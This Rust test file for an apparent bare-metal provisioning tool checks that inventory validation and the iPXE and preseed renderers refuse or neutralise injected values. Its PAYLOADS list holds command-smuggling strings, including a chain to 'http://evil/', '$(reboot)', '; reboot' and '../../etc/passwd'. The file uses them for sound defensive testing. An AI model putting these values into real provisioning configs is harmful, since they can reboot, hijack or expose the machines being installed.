//! Hostile inventory values — newlines, `#!ipxe` lines, iPXE expansions,
//! shell metacharacters, `../` — in every field. Two layers are proven:
//! loading refuses each one naming the field, and, should a value ever get
//! past validation, the renderers refuse to print it rather than let it add a
//! line, a command or an argument.

use crate::common;
use metalboot::inventory::Inventory;
use metalboot::render::Renderer;
use metalboot::script::{self, Platform, Site};
use metalboot_spec::{HostSpec, Method};

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example";

const PAYLOADS: &[&str] = &[
    "x\n#!ipxe\nchain http://evil/",
    "x\r\nd-i preseed/late_command string reboot",
    "${net0/mac}",
    "a\tb",
    "x && chain http://evil/",
    "x || shell",
    "x'; reboot; '",
    "$(reboot)",
    "`reboot`",
    "x; reboot",
    "../../etc/passwd",
    "x\"y",
    "x#y",
];

/// Every string-valued field of a host, as a TOML line that sets it to `v`.
fn field_lines(v: &str) -> Vec<(&'static str, String)> {
    let q = toml_quote(v);
    vec![
        ("name", format!("name = {q}")),
        ("macs[0]", format!("macs = [{q}]")),
        ("labels[0]", format!("labels = [{q}]")),
        ("disk.path", format!("disk = {{ path = {} }}", toml_quote(&format!("/dev/{v}")))),
        ("disk.serial", format!("disk = {{ serial = {q} }}")),
        ("disk.wwn", format!("disk = {{ wwn = {q} }}")),
        ("disk.model", format!("disk = {{ model = {q} }}")),
        ("disk.min_size", format!("disk = {{ min_size = {q} }}")),
        ("layout.subvolumes", format!("layout = {{ subvolumes = [{{ name = \"@\", mountpoint = \"/\" }}, {{ name = {}, mountpoint = \"/x\" }}] }}", toml_quote(&format!("@{v}")))),
        ("layout.subvolumes", format!("layout = {{ subvolumes = [{{ name = \"@\", mountpoint = \"/\" }}, {{ name = \"@x\", mountpoint = {} }}] }}", toml_quote(&format!("/{v}")))),
        ("layout.mount_options", format!("layout = {{ mount_options = {q} }}")),
        ("network.addresses[0]", format!("network = {{ mode = \"static\", addresses = [{q}] }}")),
        ("network.search[0]", format!("network = {{ search = [{q}] }}")),
        ("ssh_authorized_keys[0]", format!("ssh_authorized_keys = [{}]", toml_quote(&format!("{KEY} {v}")))),
        ("root_password_hash", format!("root_password_hash = {}", toml_quote(&format!("$6$salt${v}")))),
        ("image", format!("image = {q}")),
        ("kernel_args[0]", format!("kernel_args = [{q}]")),
        ("handoff.ansible_user", format!("handoff = {{ ansible_user = {q} }}")),
        ("admin.name", format!("admin = {{ name = {q} }}")),
        (
            "admin.ssh_authorized_keys[0]",
            format!("admin = {{ name = \"ops\", ssh_authorized_keys = [{}] }}", toml_quote(&format!("{KEY} {v}"))),
        ),
        ("admin.shell", format!("admin = {{ name = \"ops\", shell = {} }}", toml_quote(&format!("/bin/{v}")))),
        ("packages[0]", format!("method = \"debian-installer\"\npackages = [{q}]")),
    ]
}

fn toml_quote(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

fn host_with(line: &str) -> String {
    let mut base = vec![
        ("name", "name = \"h1\"".to_string()),
        ("macs", "macs = [\"52:54:00:00:00:01\"]".to_string()),
        ("disk", "disk = { serial = \"S1\" }".to_string()),
        ("ssh_authorized_keys", format!("ssh_authorized_keys = [{}]", toml_quote(KEY))),
    ];
    let key = line.split(' ').next().unwrap();
    base.retain(|(k, _)| *k != key);
    let mut s = String::from("[[host]]\n");
    for (_, l) in base {
        s.push_str(&l);
        s.push('\n');
    }
    s.push_str(line);
    s.push('\n');
    s
}

#[test]
fn every_field_refuses_every_payload_at_load() {
    let mut checked = 0;
    for p in PAYLOADS {
        for (field, line) in field_lines(p) {
            if field == "root_password_hash" && p.starts_with("../") {
                // '.' and '/' belong to the crypt(3) alphabet, so "../" can be part of a
                // real hash; the hash is only ever an opaque debconf or JSON value.
                checked += 1;
                continue;
            }
            let text = host_with(&line);
            match Inventory::from_sources([("hosts.toml", text.as_str())]) {
                Ok(_) => panic!("field {field} accepted payload {p:?}:\n{text}"),
                Err(e) => {
                    let msg = format!("{e:#}");
                    assert!(
                        msg.contains(&format!("field `{field}")),
                        "payload {p:?} in {field}: error does not name the field: {msg}"
                    );
                }
            }
            checked += 1;
        }
    }
    assert_eq!(checked, PAYLOADS.len() * 22);
}

fn fixture_host() -> HostSpec {
    let inv = Inventory::load(&common::fixtures().join("inventory")).unwrap();
    let mut h = inv.get("db1").unwrap().clone();
    h.disk.as_mut().unwrap().path = Some("/dev/sda".into());
    h
}

/// Applies `v` to every string the renderers print, bypassing validation.
fn poisoned(v: &str, method: Method) -> Vec<(&'static str, HostSpec)> {
    let base = HostSpec { method, ..fixture_host() };
    let mut out = Vec::new();
    let mut h = base.clone();
    h.name = v.into();
    out.push(("name", h));
    let mut h = base.clone();
    h.kernel_args = vec![v.into()];
    out.push(("kernel_args", h));
    let mut h = base.clone();
    h.disk.as_mut().unwrap().path = Some(v.into());
    out.push(("disk.path", h));
    let mut h = base.clone();
    h.disk.as_mut().unwrap().serial = Some(v.into());
    out.push(("disk.serial", h));
    let mut h = base.clone();
    h.ssh_authorized_keys = vec![v.into()];
    out.push(("ssh_authorized_keys", h));
    let mut h = base.clone();
    h.root_password_hash = Some(v.into());
    out.push(("root_password_hash", h));
    let mut h = base.clone();
    h.disk.as_mut().unwrap().model = Some(v.into());
    out.push(("disk.model", h));
    let mut h = base.clone();
    h.disk.as_mut().unwrap().wwn = Some(v.into());
    out.push(("disk.wwn", h));
    let mut h = base.clone();
    h.layout.subvolumes[1].name = v.into();
    out.push(("layout.subvolumes.name", h));
    let mut h = base.clone();
    h.layout.subvolumes[1].mountpoint = v.into();
    out.push(("layout.subvolumes.mountpoint", h));
    let mut h = base.clone();
    h.packages = vec![v.into()];
    out.push(("packages", h));
    let mut h = base.clone();
    h.network.search = vec![v.into()];
    out.push(("network.search", h));
    let admin = base.admin.clone().expect("the fixture host has an admin user");
    let mut h = base.clone();
    h.admin = Some(metalboot_spec::AdminSpec { name: v.into(), ..admin.clone() });
    out.push(("admin.name", h));
    let mut h = base.clone();
    h.admin = Some(metalboot_spec::AdminSpec { ssh_authorized_keys: Some(vec![v.into()]), ..admin.clone() });
    out.push(("admin.ssh_authorized_keys", h));
    let mut h = base;
    h.admin = Some(metalboot_spec::AdminSpec { shell: Some(v.into()), ..admin });
    out.push(("admin.shell", h));
    out
}

#[test]
fn renderers_refuse_values_that_would_inject() {
    let r = Renderer::embedded().unwrap();
    let cfg = common::fixture_config(std::path::Path::new("/tmp"));
    let site =
        Site { base_url: "http://192.0.2.1:8080", tls: None, console: &cfg.console, debian: &cfg.debian_installer };
    let mac = "52:54:00:00:00:02".parse().unwrap();
    let clean_ipxe = script::install_script(&r, &site, &fixture_host(), &mac, Platform::Pcbios, "T").unwrap();
    let clean_preseed = script::preseed(&r, &site, &fixture_host(), "T").unwrap();
    let mut scripts_run = 0;
    for p in PAYLOADS {
        for method in [Method::Image, Method::DebianInstaller] {
            for (field, h) in poisoned(p, method) {
                if let Ok(out) = script::install_script(&r, &site, &h, &mac, Platform::Pcbios, "T") {
                    // Rendered: then the value never reached the script at all.
                    assert_eq!(out.lines().count(), clean_ipxe.lines().count(), "{field} {p:?}:\n{out}");
                    assert!(!out.contains(p), "{field} {p:?} reached the iPXE script:\n{out}");
                }
                if let Ok(out) = script::preseed(&r, &site, &h, "T") {
                    assert_eq!(
                        out.lines().count(),
                        clean_preseed.lines().count(),
                        "{field} {p:?} added a line:\n{out}"
                    );
                    assert_no_shell_injection(&out, field, p);
                }
                if method == Method::DebianInstaller {
                    let local = Site { base_url: "http://127.0.0.1:9", ..site };
                    for name in script::DI_SCRIPTS {
                        if let Ok(Some(out)) = script::di_script(&r, &local, &h, "T", name) {
                            assert_script_inert(&out, name, field, p);
                            scripts_run += 1;
                        }
                    }
                }
            }
        }
    }
    // quoted values render (and ran inert); the rest were refused
    assert!(scripts_run > PAYLOADS.len() * 3, "only {scripts_run} scripts rendered");
}

/// Runs every shell command of a preseed in `sh` with the commands it calls
/// (and the payloads' `reboot`, `chain`, `shell`) replaced by functions: a
/// payload that escaped its quoting prints INJECTED.
fn assert_no_shell_injection(preseed: &str, field: &str, p: &str) {
    let prelude = "reboot(){ echo INJECTED; }; chain(){ echo INJECTED; }; shell(){ echo INJECTED; }; \
                   wget(){ :; }; mkdir(){ :; }; chmod(){ :; }; printf(){ :; }; cd /tmp; ";
    for line in preseed.lines() {
        let Some(cmd) = [
            "d-i preseed/early_command string ",
            "d-i partman/early_command string ",
            "d-i preseed/late_command string ",
        ]
        .iter()
        .find_map(|pre| line.strip_prefix(pre)) else {
            continue;
        };
        let cmd = cmd.replace("/target/root/.ssh/authorized_keys", "/dev/null");
        let out = std::process::Command::new("sh").args(["-c", &format!("{prelude}{cmd}")]).output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(!stdout.contains("INJECTED"), "{field} {p:?} ran a command:\n{line}");
    }
}

/// Runs a Debian-installer host script to its end against a scratch target
/// (a fake BTRFS root in its mounts file, the installer's sysfs fixture),
/// with what would touch the machine (mount, btrfs, chroot, …) and the
/// payloads' commands replaced by functions: a payload that escaped its
/// quoting prints INJECTED.
fn assert_script_inert(body: &str, name: &str, field: &str, p: &str) {
    let tmp = tempfile::tempdir().unwrap();
    let target = tmp.path().join("target");
    std::fs::create_dir_all(target.join("etc/ssh")).unwrap();
    std::fs::write(target.join("etc/fstab"), "UUID=u / btrfs defaults,subvol=@rootfs 0 0\n").unwrap();
    std::fs::write(target.join("etc/ssh/ssh_host_ed25519_key.pub"), format!("{KEY}\n")).unwrap();
    // the fixture host's admin user, as the installer's user-setup makes it
    std::fs::write(target.join("etc/passwd"), "ops:x:1000:1000::/home/ops:/bin/sh\n").unwrap();
    let mounts = tmp.path().join("mounts");
    std::fs::write(&mounts, format!("/dev/vdz {} btrfs rw,subvol=@rootfs 0 0\n", target.display())).unwrap();
    let path = tmp.path().join(name);
    std::fs::write(&path, body).unwrap();
    let prelude = "reboot(){ echo INJECTED; }; chain(){ echo INJECTED; }; shell(){ echo INJECTED; }; \
                   wget(){ :; }; mount(){ :; }; umount(){ :; }; btrfs(){ :; }; chroot(){ :; }; mv(){ :; }; ";
    let sysfs = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../installer/tests/fixtures/sysfs-mixed");
    let out = std::process::Command::new("sh")
        .args(["-c", &format!("{prelude}. {}", path.display())])
        .env("METALBOOT_TARGET", &target)
        .env("METALBOOT_MOUNTS", &mounts)
        .env("METALBOOT_SYSFS", sysfs)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("INJECTED"), "{field} {p:?} ran a command in {name}:\n{body}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    // the shell itself complained: something ran that should not have
    assert!(!stderr.lines().any(|l| l.starts_with("sh: ")), "{name} with {field} {p:?}: {stderr}");
}

#[test]
fn shell_quoted_payloads_stay_literal_in_a_real_shell() {
    for p in PAYLOADS.iter().filter(|p| !p.contains(['\n', '\r'])) {
        let cmd = format!("printf '%s' {}", metalboot::render::shell_quote(p));
        let out = std::process::Command::new("sh").args(["-c", &cmd]).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), *p);
    }
}

/// A value built to wreck an error message: a colour escape, a newline and
/// 10,000 more characters.
fn wrecking_value() -> String {
    format!("\u{1b}[31m\nred{}", "A".repeat(10_000))
}

/// What an error must look like whatever was in the value: one line, no
/// control character, bounded, and the file and the field named once.
fn assert_one_bounded_line(msg: &str, file: &str, field: &str, what: &str) {
    assert!(!msg.chars().any(char::is_control), "{what}: control character in: {msg:?}");
    assert!(msg.chars().count() < 600, "{what}: {} characters: {msg}", msg.chars().count());
    assert_eq!(msg.matches(file).count(), 1, "{what}: {file} not named once: {msg}");
    assert_eq!(msg.matches("field `").count(), 1, "{what}: not one field named: {msg}");
    assert!(msg.contains(&format!("field `{field}")), "{what}: field {field} not named: {msg}");
}

#[test]
fn inventory_errors_on_a_wrecking_value_are_one_bounded_line() {
    let v = wrecking_value();
    let mut lines = field_lines(&v);
    // a value where another type is wanted, and a key nobody knows
    lines.push(("arm", format!("arm = {}", toml_quote(&v))));
    lines.push(("", format!("{} = 1", toml_quote(&v))));
    for (field, line) in lines {
        let text = host_with(&line);
        let Err(e) = Inventory::from_sources([("hosts.toml", text.as_str())]) else { panic!("{field}: accepted") };
        assert_one_bounded_line(&format!("{e:#}"), "hosts.toml", field, field);
    }
    // as `metalboot check-config` prints it
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("hosts.toml"), host_with(&format!("labels = [{}]", toml_quote(&v)))).unwrap();
    std::fs::write(dir.path().join("metalboot.toml"), "[server]\ninventory = \"hosts.toml\"\n").unwrap();
    let out = crate::common::metalboot(dir.path(), &dir.path().join("metalboot.toml"), &["check-config"]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert_one_bounded_line(err.trim_end(), "hosts.toml", "labels[0]", "check-config");
    assert!(err.contains(r#""\u{1b}[31m\nredAAA"#) && err.contains("…\" (10009 characters)"), "{err}");
}

#[test]
fn config_errors_on_a_wrecking_value_are_one_bounded_line() {
    let v = toml_quote(&wrecking_value());
    let dir = tempfile::tempdir().unwrap();
    for (field, text) in [
        ("server.console[0]", format!("[server]\nconsole = [{v}]\n")),
        ("server.public_url", format!("[server]\npublic_url = {v}\n")),
        ("server.listen", format!("[server]\nlisten = {v}\n")),
        ("debian_installer.suite", format!("[debian_installer]\nsuite = {v}\n")),
        ("debian_installer.mirror", format!("[debian_installer]\nmirror = {v}\n")),
        ("tftp.files.", format!("[tftp.files]\n{v} = \"x\"\n")),
        ("server.", format!("[server]\n{v} = 1\n")),
        ("handoff.hooks[0].name", format!("[[handoff.hooks]]\nname = {v}\ncommand = [\"true\"]\n")),
        ("handoff.hooks[0].on", format!("[[handoff.hooks]]\nname = \"x\"\ncommand = [\"true\"]\non = [{v}]\n")),
        ("handoff.hooks[0].url", format!("[[handoff.hooks]]\nname = \"x\"\nurl = {v}\nsecret_file = \"s\"\n")),
        ("dhcp.mode", format!("[dhcp]\nmode = {v}\n")),
    ] {
        let path = dir.path().join("metalboot.toml");
        std::fs::write(&path, &text).unwrap();
        let Err(e) = metalboot::config::Config::load(Some(&path)) else { panic!("{field}: accepted") };
        assert_one_bounded_line(&format!("{e:#}"), "metalboot.toml", field, field);
    }
}

/// A request carrying the value (an unknown step in the event's JSON body
/// and in the URL, a host name) is answered with a one-line, bounded 4xx.
#[tokio::test]
async fn request_errors_on_a_wrecking_value_are_one_bounded_line() {
    use axum::http::StatusCode;
    let s = common::TestServer::new();
    let token = common::token_of(&s.get("/boot.ipxe?mac=52:54:00:00:00:01&platform=pcbios").await.1);
    let v = wrecking_value();
    let body = serde_json::json!({"step": v, "status": "failed", "message": "x"});
    let (st, text) = s.post_json(&format!("/v1/hosts/web1/events?token={token}"), body).await;
    let enc: String = url_escape(&v);
    let (st2, text2) = s.get(&format!("/v1/hosts/web1/events/{enc}?token={token}")).await;
    let req = axum::http::Request::get(format!("/v1/hosts/{enc}"))
        .header("authorization", format!("Bearer {}", common::API_TOKEN))
        .body(axum::body::Body::empty())
        .unwrap();
    let (st3, _, text3) = s.send(req).await;
    let text3 = String::from_utf8(text3).unwrap();
    assert_eq!((st, st2), (StatusCode::BAD_REQUEST, StatusCode::BAD_REQUEST), "{text}\n{text2}");
    assert_eq!(st3, StatusCode::NOT_FOUND);
    for t in [&text, &text2, &text3] {
        let line = t.strip_suffix('\n').expect("ends with a newline");
        assert!(!line.chars().any(char::is_control) && line.chars().count() < 500, "{t:?}");
    }
    assert!(text2.contains("unknown step \"\\u{1b}[31m\\nred"), "{text2}");
}

fn url_escape(v: &str) -> String {
    v.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
}
